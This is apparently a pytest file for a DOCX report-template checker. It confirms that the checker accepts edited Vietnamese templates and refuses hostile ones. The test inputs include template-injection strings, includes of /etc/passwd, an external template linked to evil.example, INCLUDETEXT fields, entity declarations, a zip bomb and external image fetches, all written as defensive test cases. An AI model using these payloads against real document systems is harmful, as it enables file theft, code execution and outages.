"""Templates of reports: the one that is shipped, those that a clerk has edited, and those that are refused."""

import io
import re
import zipfile
from collections.abc import Callable

import docx
import pytest
from docx.document import Document
from docx.oxml.ns import qn
from docx.shared import Pt
from dossier_sample import speech

from geoapp.errors import DataError
from geoapp.reports.report_docx import write_docx
from geoapp.reports.report_fields import FIELDS
from geoapp.reports.report_template import build_template
from geoapp.reports.template_check import check_template
from tests import report_sample as sample

SAY = speech("vi")


@pytest.fixture(scope="module")
def template() -> bytes:
    """The template as it is shipped."""
    return build_template(SAY)


def edited(template: bytes, edit: Callable[[Document], object]) -> bytes:
    """A template as somebody has saved it."""
    document = docx.Document(io.BytesIO(template))
    edit(document)
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def with_line(template: bytes, text: str) -> bytes:
    """A template with one more paragraph."""
    return edited(template, lambda document: document.add_paragraph(text))


def repacked(template: bytes, change: Callable[[str, bytes], bytes | None], **more: bytes) -> bytes:
    """The package with entries changed, left out, or added."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            body = change(name, old.read(name))
            if body is not None:
                new.writestr(name, body)
        for name, body in more.items():
            new.writestr(name, body)
    return target.getvalue()


def faults(body: bytes) -> str:
    """All faults in one text."""
    return "\n".join(map(str, check_template(body)))


def made(body: bytes) -> Document:
    """The sample out of a template."""
    return docx.Document(io.BytesIO(write_docx(sample.content(), body, {}, sample.pictures(), SAY)))


def paragraph_of(document: Document, start: str) -> docx.text.paragraph.Paragraph:
    """The paragraph that begins so."""
    return next(one for one in document.paragraphs if one.text.startswith(start))


def test_the_shipped_templates_have_no_fault() -> None:
    """In both languages."""
    assert [(), ()] == [check_template(build_template(speech(language))) for language in ("vi", "en")]


def test_the_shipped_template_is_the_same_each_time(template: bytes) -> None:
    """No time, no random name."""
    assert template == build_template(SAY)


def test_the_shipped_template_holds_every_field(template: bytes) -> None:
    """But for the moment of knowledge, which the last appendix tells."""
    with zipfile.ZipFile(io.BytesIO(template)) as package:
        body = "".join(package.read(name).decode() for name in package.namelist() if name.endswith(".xml"))
    named = set(re.findall(r"\{\{p? ?(\w+) \}\}", re.sub(r"<[^>]+>", "", body)))
    assert {field.name for field in FIELDS} - {"biet_den"} == named


def test_text_bold_and_moved_paragraphs_of_a_clerk_are_kept(template: bytes) -> None:
    """Other words, a bold run inside, part I behind part II, and a paragraph of the clerk's own."""

    def edit(document: Document) -> None:
        opening = paragraph_of(document, "Thực hiện Kế hoạch")
        opening.runs[0].text = "Căn cứ chương trình công tác, Ban báo cáo "
        opening.add_run("{{ ky_bao_cao }}").bold = True
        opening.add_run(" (đến {{ so_lieu_den }}) như sau:").font.size = Pt(14)
        first, second = (paragraph_of(document, f"{{{{p phan_{part}") for part in (1, 2))
        second._p.addnext(first._p)
        document.add_paragraph("Đoạn của văn phòng.")

    texts = [one.text for one in made(edited(template, edit)).paragraphs]
    assert "Căn cứ chương trình công tác, Ban báo cáo tháng 10/2026 (đến 31/10/2026) như sau:" in texts
    assert texts.index("II. KẾT QUẢ") < texts.index("I. TÌNH HÌNH CHỈ ĐẠO")
    assert "Đoạn của văn phòng." in texts


def test_a_field_that_word_has_cut_into_pieces_is_still_one(template: bytes) -> None:
    """Word splits runs where spelling or editing marks fall."""

    def edit(document: Document) -> None:
        subject = paragraph_of(document, "{{ trich_yeu")
        subject.runs[0].text = "{{ tri"
        subject.add_run("ch_y").italic = True
        subject.add_run("eu }}")

    body = edited(template, edit)
    assert "" == faults(body)
    assert "Kết quả thực hiện tháng 10/2026" in [one.text for one in made(body).paragraphs]


def test_a_block_may_stand_in_a_cell_of_a_table(template: bytes) -> None:
    """The cell keeps a last paragraph, which the format asks for."""

    def edit(document: Document) -> None:
        paragraph_of(document, "{{p phan_7")._p.getparent().remove(paragraph_of(document, "{{p phan_7")._p)
        document.add_table(1, 1).cell(0, 0).paragraphs[0].text = "{{p phan_7 }}"

    cell = made(edited(template, edit)).tables[-1]
    assert any(
        "PHẦN 7" in one.text for table in made(edited(template, edit)).tables for one in table.cell(0, 0).paragraphs
    )
    assert qn("w:p") == cell.cell(0, 0)._tc[-1].tag


def test_an_unknown_field_is_told_with_its_paragraph_and_what_was_meant(template: bytes) -> None:
    """A slip of the pen."""
    told = faults(with_line(template, "Về việc {{ trich_yeuu }} của Ban"))
    assert "“Về việc {{ trich_yeuu }} của Ban”: There is no field trich_yeuu. Did you mean trich_yeu?" in told


@pytest.mark.parametrize(
    "said",
    [
        "{{ trich_yeu.__class__ }}",
        "{{ trich_yeu['x'] }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ cycler() }}",
        "{{ trich_yeu|upper }}",
        "{% for x in trich_yeu %}{% endfor %}",
        "{% set a = 1 %}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% if trich_yeu == 1 %}{% endif %}",
    ],
)
def test_only_fields_and_conditions_on_them_may_stand_there(template: bytes, said: str) -> None:
    """No attributes, calls, loops, files; and nothing is evaluated."""
    body = with_line(template, said)
    assert "may stand here" in faults(body)
    with pytest.raises(DataError, match="cannot be used"):
        write_docx(sample.content(), body, {}, {}, SAY)


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        ("{{ trich_yeu", "begun and not ended"),
        ("{% if trich_yeu %}", "do not fit together"),
        ("{{ phan_1 }}", "is a block"),
        ("{{p trich_yeu }}", "without p"),
        ("Xem {{p phan_1 }}", "Nothing else may stand"),
        ("{{p phan_1 }}", "stands in the template twice"),
        ("{# ghi chú #}", "Comments"),
    ],
)
def test_a_slip_in_a_field_is_told(template: bytes, said: str, reason: str) -> None:
    """With the paragraph that it stands in, or the name of the field."""
    assert reason in faults(with_line(template, said))


def test_a_field_that_a_report_must_carry_may_not_be_deleted(template: bytes) -> None:
    """The appendices hold sources and notes."""

    def edit(document: Document) -> None:
        last = paragraph_of(document, "{{p phu_luc")
        last._p.getparent().remove(last._p)

    assert "The field phu_luc is missing" in faults(edited(template, edit))


@pytest.mark.parametrize("body", [b"", b"PK", b"%PDF-1.7", b"\xd0\xcf\x11\xe0 old Word"])
def test_what_is_no_docx_is_refused(body: bytes) -> None:
    """In a sentence."""
    assert "This is no DOCX" in faults(body)


def test_a_cut_file_is_refused(template: bytes) -> None:
    """As after a broken download."""
    assert "This is no DOCX" in faults(template[: len(template) // 2])


def test_broken_xml_is_told_with_its_part_and_line(template: bytes) -> None:
    """Somebody has edited the package by hand."""

    def change(name: str, body: bytes) -> bytes:
        return body.replace(b"</w:body>", b"") if name == "word/document.xml" else body

    assert re.search(r"word/document\.xml: The XML is broken in line \d+", faults(repacked(template, change)))


def test_a_document_type_is_refused(template: bytes) -> None:
    """Entities that grow, or that fetch files."""

    def change(name: str, body: bytes) -> bytes:
        if name != "word/document.xml":
            return body
        return body.replace(b"?>", b'?><!DOCTYPE a [<!ENTITY b "c">]>', 1)

    assert "document type" in faults(repacked(template, change))


def test_macros_and_what_is_fetched_from_outside_are_refused(template: bytes) -> None:
    """A template from elsewhere, a field of Word that includes a file."""

    def change(name: str, body: bytes) -> bytes:
        if name == "word/_rels/document.xml.rels":
            link = b'<Relationship Id="rX" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm"'
            return body.replace(b"</Relationships>", link + b' TargetMode="External"/></Relationships>')
        if name == "word/document.xml":
            field = b'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;/etc/passwd&quot;"/></w:p><w:sectPr'
            return body.replace(b"<w:sectPr", field, 1)
        return body

    told = faults(repacked(template, change, **{"word/vbaProject.bin": b"x"}))
    assert all(part in told for part in ("macros", "from outside (attachedTemplate)", "INCLUDETEXT"))


def test_a_bomb_is_refused_unopened() -> None:
    """Sixty megabytes of nothing in a small file."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"0" * 61_000_000)
    assert "larger than any template" in faults(target.getvalue())


def test_what_stands_in_the_properties_of_the_file_is_not_evaluated(template: bytes) -> None:
    """The library would fill in title and author too."""
    body = edited(template, lambda document: setattr(document.core_properties, "title", "{{ 7 * 7 }}"))
    assert "Kết quả thực hiện tháng 10/2026" == made(body).core_properties.title


def renamed_header(template: bytes) -> bytes:
    """A template whose header has another name than Word gives, and something to evaluate in it."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            body = old.read(name)
            if name == "word/_rels/document.xml.rels":
                body = body.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdAny" Type="%b" Target="any.xml"/></Relationships>'
                    % (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"),
                )
            if name == "[Content_Types].xml":
                body = body.replace(
                    b"</Types>",
                    b'<Override PartName="/word/any.xml" ContentType="%b"/></Types>'
                    % (b"application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"),
                )
            new.writestr(name, body)
        new.writestr(
            "word/any.xml",
            '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:p><w:r><w:t>{{ 6 * 7 }}</w:t></w:r></w:p></w:hdr>",
        )
    return target.getvalue()


def in_attribute(document: Document) -> None:
    """What nobody sees in Word."""
    document.paragraphs[0]._p.set(qn("w:rsidR"), "{{ 'x' * 9999999999 }}")


def in_name_of_bookmark(document: Document) -> None:
    """A loop in an attribute of an element of its own."""
    mark = document.paragraphs[0]._p.makeelement(
        qn("w:bookmarkStart"), {qn("w:name"): "{% for x in trich_yeu %}{% endfor %}"}
    )
    document.paragraphs[0]._p.append(mark)


def in_text_box(document: Document) -> None:
    """A field that is begun before a text box and ended after it: the library takes what is between into it."""
    line = document.add_paragraph("{{ trich_yeu ")
    box = line.add_run()._r
    inner = box.makeelement(qn("w:txbxContent"), {})
    inner.append(document.add_paragraph("* 9999999999")._p)
    box.append(inner)
    line.add_run(" }}")


def in_field_code(document: Document) -> None:
    """A field of Word whose code is to be evaluated."""
    code = document.paragraphs[0]._p.makeelement(qn("w:instrText"), {})
    code.text = "{{ 6 * 7 }}"
    document.add_paragraph().add_run()._r.append(code)


@pytest.mark.parametrize("edit", [in_attribute, in_name_of_bookmark, in_text_box, in_field_code])
def test_what_would_be_evaluated_outside_of_the_text_is_a_fault(
    template: bytes, edit: Callable[[Document], object]
) -> None:
    """The library fills in all of the XML, and not only the text that people see."""
    assert "to be evaluated" in faults(edited(template, edit))


def test_what_would_be_evaluated_in_a_part_of_any_name_is_a_fault(template: bytes) -> None:
    """The library follows the relationships, and not the names of the parts."""
    assert "to be evaluated" in faults(renamed_header(template))


def test_a_picture_from_the_address_of_a_link_is_a_fault(template: bytes) -> None:
    """A relationship that is called a link is fetched at once where a picture names it."""

    def edit(document: Document) -> None:
        known = document.part.relate_to("http://192.0.2.1/p.png", "x/hyperlink", is_external=True)
        run = document.add_paragraph().add_run()._r
        blip = run.makeelement(qn("a:blip"), {qn("r:link"): known})
        run.append(blip)

    assert "fetches something from outside (blip)" in faults(edited(template, edit))


def test_a_field_of_word_that_is_cut_into_pieces_is_found(template: bytes) -> None:
    """INCLUDE in one run and TEXT in the next."""

    def edit(document: Document) -> None:
        run = document.add_paragraph().add_run()._r
        for piece in (" INCLUDE", 'TEXT "/etc/passwd" '):
            code = run.makeelement(qn("w:instrText"), {})
            code.text = piece
            run.append(code)

    assert "INCLUDETEXT" in faults(edited(template, edit))
